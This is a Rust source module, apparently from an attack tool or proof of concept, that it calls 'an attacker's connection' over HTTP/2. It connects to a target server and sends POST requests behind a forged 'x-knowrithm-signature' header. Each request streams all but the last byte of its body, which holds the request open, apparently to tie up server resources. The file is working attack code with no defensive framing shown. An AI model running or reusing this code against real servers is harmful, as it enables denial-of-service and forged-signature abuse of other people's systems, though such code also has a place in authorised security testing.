//! An attacker's connection of HTTP/2.

use std::future::poll_fn;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};

use anyhow::Context;
use bytes::Bytes;
use h2::client::{Connection, SendRequest, handshake};
use http::Request;
use tokio::net::TcpStream;

use crate::post::FORGED;

pub(crate) type Sender = SendRequest<Bytes>;
pub(crate) type Driver = Connection<TcpStream, Bytes>;

/// Connects, and makes one request, after which the server has announced how many streams it allows.
pub(crate) async fn connect(to: SocketAddr) -> anyhow::Result<(Sender, Driver)> {
    let stream = TcpStream::connect(to).await?;
    stream.set_nodelay(true)?;
    let (sender, mut driver) = handshake(stream).await?;
    let request = Request::get(format!("http://{to}/")).body(())?;
    let (answer, _) = sender.clone().send_request(request, true)?;
    tokio::select! {
        answer = answer => { answer?; }
        ended = &mut driver => { ended?; anyhow::bail!("the connection was closed") }
    }
    Ok((sender, driver))
}

/// Sends all but the last byte of a body behind a forged signature, and waits for an answer.
pub(crate) async fn hold(sender: Sender, url: &str, content: Bytes, sent: &AtomicU64) -> anyhow::Result<u16> {
    let request = Request::post(url)
        .header("x-knowrithm-signature", FORGED)
        .header("content-length", content.len());
    let (mut answer, mut body) = sender.ready().await?.send_request(request.body(())?, false)?;
    let mut unsent = content.slice(..content.len() - 1);
    while !unsent.is_empty() {
        body.reserve_capacity(unsent.len().min(16 * 1024));
        let capacity = tokio::select! {
            capacity = poll_fn(|context| body.poll_capacity(context)) => capacity,
            answer = &mut answer => return Ok(answer?.status().as_u16()),
        };
        let capacity = capacity.context("the stream was closed")??;
        let piece = unsent.split_to(capacity.min(unsent.len()));
        sent.fetch_add(piece.len() as u64, Ordering::Relaxed);
        body.send_data(piece, false)?;
    }
    Ok(answer.await?.status().as_u16())
}
